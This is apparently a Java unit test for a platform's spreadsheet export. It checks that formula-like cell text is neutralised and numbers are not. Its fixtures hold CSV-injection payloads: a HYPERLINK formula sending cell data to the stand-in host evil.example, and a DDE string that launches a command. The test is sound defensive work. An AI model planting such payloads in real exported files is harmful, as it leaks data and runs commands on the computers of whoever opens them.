package org.citycoop.platform.export;

import org.junit.jupiter.api.Test;

import java.util.LinkedHashMap;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;

class ExportTest {

    @Test
    void textsASpreadsheetWouldRunAsFormulasAreNeutralisedAndNumbersAreNot() {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("title", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
        row.put("other", "+cmd|' /C calc'!A0");
        row.put("at", "@SUM(1+1)");
        row.put("tab", "\t=1");
        row.put("amount", "-135000000");
        row.put("decimal", "+12.50");
        row.put("plain", "Solid waste");
        row.put("empty", "");
        row.put("none", null);
        Map<String, Object> safe = Export.spreadsheetSafe(row);
        assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", safe.get("title"));
        assertEquals("'+cmd|' /C calc'!A0", safe.get("other"));
        assertEquals("'@SUM(1+1)", safe.get("at"));
        assertEquals("'\t=1", safe.get("tab"));
        assertEquals("-135000000", safe.get("amount"));
        assertEquals("+12.50", safe.get("decimal"));
        assertEquals("Solid waste", safe.get("plain"));
        assertEquals("", safe.get("empty"));
        assertEquals(null, safe.get("none"));
        assertEquals(row.keySet().stream().toList(), safe.keySet().stream().toList(), "the columns keep their order");
    }
}
